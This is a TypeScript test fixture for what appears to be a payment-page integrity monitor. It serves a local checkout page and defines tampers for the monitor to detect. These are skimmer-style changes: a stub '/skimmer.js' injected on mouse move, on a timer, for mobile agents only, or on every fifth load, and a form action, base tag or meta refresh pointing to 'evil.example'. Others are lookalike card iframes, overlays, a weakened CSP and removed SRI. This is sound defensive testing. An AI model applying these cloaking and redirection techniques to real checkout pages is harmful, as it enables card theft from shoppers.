import { createHash, randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { WatchFinding } from '@cloister/csp';

const SHOP = 'globalThis.shop = true;';
const TAG = 'globalThis.tag = true;';
const SKIMMER = 'globalThis.skimmer = true;';
const SRI = `sha384-${createHash('sha384').update(SHOP).digest('base64')}`;
const STYLE = `.card { position: relative; width: 320px; height: 60px } .card iframe { width: 100%; height: 100%; border: 0 }
.cover { position: absolute; inset: 0; pointer-events: none }`;

type Headers = Readonly<Record<string, string>>;

/** A payment page, as one answer. */
interface Answer {
  readonly html: string;
  readonly headers: Headers;
  /** Default: 200. */
  readonly status?: number;
}

const POLICY = 'content-security-policy';

/** The page as its owner wants it. */
function clean(elements: string): Answer {
  const nonce = randomBytes(16).toString('base64');
  return {
    headers: {
      'content-type': 'text/html; charset=utf-8',
      [POLICY]: `default-src 'none'; script-src 'self' 'nonce-${nonce}'; style-src 'self'; connect-src 'self'; frame-src ${elements}; form-action 'self'; base-uri 'none'`,
      'referrer-policy': 'strict-origin-when-cross-origin',
      'x-content-type-options': 'nosniff',
    },
    html: `<!doctype html><html lang="en"><head><title>Pay</title><link rel="stylesheet" href="/style.css">
<script src="/shop.js?v=${nonce.slice(0, 4)}" integrity="${SRI}"></script><script src="/tag.js"></script>
<script nonce="${nonce}">globalThis.inline = true;</script></head><body>
<form action="/pay" method="post"><label>Name <input name="name" autocomplete="cc-name"></label>
<div class="card"><iframe title="Card number" src="${elements}/collect.html#${nonce.slice(0, 4)}" sandbox="allow-scripts allow-same-origin"></iframe></div>
<button>Pay</button></form></body></html>`,
  };
}

/** One way in which a page is tampered with, and what is to be found of it. */
export interface Tamper {
  readonly title: string;
  readonly change: (answer: Answer) => Answer;
  /** Whom it is done to. Default: everybody. */
  readonly whom?: (visitor: { readonly agent: string; readonly count: number }) => boolean;
  readonly tag?: string;
  readonly finding: Partial<WatchFinding>;
  /** Times that each kind of visitor must come. Default: once. */
  readonly loads?: number;
}

const inHtml =
  (from: string, to: string): Tamper['change'] =>
  ({ html, headers }) => {
    if (!html.includes(from)) throw new Error(`nothing to tamper with: ${from}`);
    return { html: html.replace(from, to), headers };
  };
const atEnd = (markup: string): Tamper['change'] => inHtml('</body>', `${markup}</body>`);
const inHeaders =
  (change: (headers: Headers) => Record<string, string | undefined>): Tamper['change'] =>
  ({ html, headers }) => ({
    html,
    headers: Object.fromEntries(
      Object.entries(change(headers)).flatMap(([name, value]) => (value === undefined ? [] : [[name, value] as const])),
    ),
  });
const withScript = (code: string): Tamper['change'] => {
  return ({ html, headers }) => {
    const nonce = /nonce="([^"]*)"/u.exec(html)?.[1] ?? '';
    return { html: html.replace('</body>', `<script nonce="${nonce}">${code}</script></body>`), headers };
  };
};
const load = `document.head.append(Object.assign(document.createElement('script'), { src: '/skimmer.js' }))`;
const skimmer = { kind: 'script', problem: 'added', name: '/skimmer.js' } as const;
const script = '<script src="/skimmer.js"></script>';

export const TAMPERS: readonly Tamper[] = [
  {
    title: 'a security header is gone',
    change: inHeaders((headers) => ({ ...headers, 'x-content-type-options': undefined })),
    finding: { kind: 'header', problem: 'gone', name: 'x-content-type-options' },
  },
  {
    title: 'the policy is loosened',
    change: inHeaders((headers) => ({
      ...headers,
      [POLICY]: headers[POLICY]?.replace("connect-src 'self'", 'connect-src *'),
    })),
    finding: { kind: 'header', problem: 'changed', name: POLICY },
  },
  {
    title: 'the policy only reports',
    change: inHeaders((headers) => ({ ...headers, [`${POLICY}-report-only`]: headers[POLICY], [POLICY]: undefined })),
    finding: { kind: 'header', problem: 'gone', name: POLICY },
  },
  {
    title: 'one byte of a script is another',
    change: (answer) => answer,
    tag: TAG.replace('true', 'tru2'),
    finding: { kind: 'script', problem: 'changed', name: '/tag.js' },
  },
  { title: 'there is a new script', change: atEnd(script), finding: skimmer },
  {
    title: 'a new script comes when the pointer moves',
    change: withScript(`addEventListener('mousemove', () => { ${load} }, { once: true })`),
    finding: skimmer,
  },
  {
    title: 'a new script comes after a while',
    change: withScript(`setTimeout(() => { ${load} }, 250)`),
    finding: skimmer,
  },
  {
    title: 'a new script is for phones only',
    change: atEnd(script),
    whom: ({ agent }) => agent.includes('Mobile'),
    finding: { ...skimmer, profiles: ['mobile'] },
  },
  {
    title: 'a new script is in one of five loads',
    change: atEnd(script),
    whom: ({ count }) => count % 5 === 0,
    loads: 5,
    finding: skimmer,
  },
  {
    title: 'the form goes elsewhere',
    change: inHtml('action="/pay"', 'action="https://evil.example/pay"'),
    finding: { kind: 'form', problem: 'added', name: 'https://evil.example/pay' },
  },
  {
    title: 'the page itself asks for a card number',
    change: atEnd('<input name="number" autocomplete="cc-number">'),
    finding: { kind: 'input', problem: 'added', note: 'asks for card data' },
  },
  {
    title: 'there is a second field like the one that was approved',
    change: atEnd('<input name="name" autocomplete="cc-name">'),
    finding: { kind: 'input', problem: 'added', note: 'asks for card data' },
  },
  {
    title: 'there are more frames than are looked at',
    change: atEnd('<iframe title="Card number" src="about:blank"></iframe>'.repeat(40)),
    finding: { kind: 'overlay', problem: 'added', name: 'frames' },
  },
  {
    title: 'the frame is another',
    change: inHtml('/collect.html', '/imitated.html'),
    finding: { kind: 'frame', problem: 'added' },
  },
  {
    title: 'the frame has no sandbox',
    change: inHtml(' sandbox="allow-scripts allow-same-origin"', ''),
    finding: { kind: 'frame', problem: 'changed' },
  },
  {
    title: 'the frame may do more',
    change: inHtml('sandbox="', 'allow="camera; clipboard-read" sandbox="'),
    finding: { kind: 'frame', problem: 'changed' },
  },
  {
    title: 'something lies above the frame',
    change: inHtml('</iframe>', '</iframe><div id="cover" class="cover"></div>'),
    finding: { kind: 'overlay', problem: 'added', after: 'div#cover' },
  },
  {
    title: 'a frame looks like ours',
    change: atEnd('<iframe title="Card number" src="http://evil.localhost/card"></iframe>'),
    finding: { kind: 'frame', problem: 'added', name: 'http://evil.localhost/card', note: 'titled "Card number"' },
  },
  {
    title: 'a base moves every relative address',
    change: inHtml('<title>', '<base href="https://evil.example/"><title>'),
    finding: { kind: 'base', problem: 'added', after: 'https://evil.example/' },
  },
  {
    title: 'the page is refreshed to another',
    change: inHtml('<title>', '<meta http-equiv="refresh" content="9; url=https://evil.example/"><title>'),
    finding: { kind: 'meta', problem: 'added', name: 'refresh' },
  },
  {
    title: 'there is a service worker',
    change: withScript(`navigator.serviceWorker.register('/skimmer.js')`),
    finding: skimmer,
  },
  {
    title: 'a button has a handler in its markup',
    change: inHtml('<button>', '<button onclick="send()">'),
    finding: {
      kind: 'script',
      problem: 'added',
      after: `sha384-${createHash('sha384').update('send()').digest('base64')}`,
    },
  },
  {
    title: 'a script lost its integrity',
    change: inHtml(` integrity="${SRI}"`, ''),
    finding: { kind: 'integrity', problem: 'changed', name: '/shop.js', after: '' },
  },
];

/** The page, and the frame in it, on two sites. */
export class TamperPage {
  readonly url: string;
  readonly close: () => Promise<void>;
  #tamper: Tamper | undefined;
  #count = 0;

  private constructor(url: string, close: () => Promise<void>) {
    this.url = url;
    this.close = close;
  }

  static async start(): Promise<TamperPage> {
    const server = createServer((request, response) => {
      page.#answer(request, response);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const page = new TamperPage(`http://shop.localhost:${String(port)}/checkout`, async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    });
    return page;
  }

  /** From now on it is tampered with so, or not at all. */
  tamper(tamper: Tamper | undefined): void {
    this.#tamper = tamper;
    this.#count = 0;
  }

  #answer({ url = '/', headers }: IncomingMessage, response: ServerResponse): void {
    const [path = '/'] = url.split('?');
    const files: Readonly<Record<string, readonly [string, string]>> = {
      '/shop.js': ['text/javascript', SHOP],
      '/tag.js': ['text/javascript', this.#tamper?.tag ?? TAG],
      '/skimmer.js': ['text/javascript', SKIMMER],
      '/style.css': ['text/css', STYLE],
      '/collect.html': ['text/html', '<!doctype html><title>field</title><input>'],
      '/imitated.html': ['text/html', '<!doctype html><title>field</title><input>'],
    };
    const [type, body] = files[path] ?? [];
    if (type !== undefined) {
      response.writeHead(200, { 'content-type': `${type}; charset=utf-8` }).end(body);
      return;
    }
    if (path !== '/checkout') {
      response.writeHead(404).end();
      return;
    }
    const answer = this.#page(headers['user-agent'] ?? '', headers.host ?? '');
    response.writeHead(answer.status, answer.headers).end(answer.html);
  }

  #page(agent: string, host: string): Required<Answer> {
    const answer = clean(`http://elements.localhost:${host.split(':')[1] ?? ''}`);
    const tamper = this.#tamper;
    this.#count += 1;
    const isMeant = tamper?.whom?.({ agent, count: this.#count }) ?? true;
    return { status: 200, ...(tamper !== undefined && isMeant ? tamper.change(answer) : answer) };
  }
}
